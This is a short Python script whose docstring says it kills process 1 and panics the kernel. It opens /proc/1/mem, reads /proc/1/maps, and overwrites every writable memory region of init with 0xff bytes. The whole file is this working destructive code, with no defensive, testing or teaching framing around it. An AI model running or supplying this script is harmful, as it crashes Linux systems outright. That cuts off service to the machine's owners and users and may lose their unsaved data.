"""Overwrites the stack and the data of process 1: it dies on its way back, and with it the kernel panics."""
import os

mem = os.open("/proc/1/mem", os.O_RDWR)
for line in open("/proc/1/maps"):
    where, mode = line.split()[:2]
    if "w" in mode:
        start, end = (int(n, 16) for n in where.split("-"))
        os.pwrite(mem, b"\xff" * (end - start), start)
